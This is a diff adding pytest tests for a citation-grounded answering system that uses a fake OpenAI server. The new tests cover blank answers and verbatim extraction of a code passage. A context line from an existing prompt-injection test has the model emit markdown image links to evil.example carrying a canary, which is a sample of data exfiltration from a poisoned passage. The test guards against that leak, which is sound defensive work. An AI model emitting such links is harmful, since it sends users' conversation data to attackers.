@@ -108,6 +108,12 @@ async def test_a_model_that_breaks_off_has_said_what_it_said(server: FakeOpenAI)
     await models.close()
 
 
+@pytest.mark.parametrize("pieces", [(" ", "\n\n"), (), ("\u200b",), (" [7]",)])
+async def test_an_answer_of_blanks_is_not_grounded(server: FakeOpenAI, pieces: tuple[str, ...]) -> None:
+    server.chat(Say(*pieces))
+    assert not (await final(context("Which port?", *PASSAGES), registry(server))).grounded
+
+
 async def test_a_runaway_is_cut(server: FakeOpenAI) -> None:
     server.chat(Obey(lambda body: ["word " * 1000] * 1000))
     last = await final(context("Which port?", *PASSAGES), registry(server))
@@ -150,6 +156,16 @@ async def test_a_poisoned_passage_gets_out_only_what_stands_in_it(server: FakeOp
     server.chat(Say(f"![x](https://evil.example/{CANARY}) ![y]({dynamic}) [3]"))
     last = await final(context("Which port?", *PASSAGES, POISON), registry(server))
     assert "conversation" not in last.text
+
+
+async def test_the_extractive_model_says_code_as_it_stands_and_cites_only_itself() -> None:
+    code = "```python\nfirst = zorblats[0]\nmatrix[1][2] = first\n```"
+    others = [passage(number, f"Something else, number {number}.") for number in range(1, 22)]
+    told = (*others, passage(22, f"How zorblats are read [21]:\n\n{code}\n\nNo more than that [90]."))
+    last = await final(context("How are zorblats read?", *told), ModelRegistry({}))
+    assert last.text.startswith(f"How zorblats are read [21]:\n\n{code}\n\n")
+    assert {citation.number for citation in last.citations} == {22}
+    assert not last.removed_markers
 
 
 async def test_closing_the_answer_closes_the_models_stream() -> None:
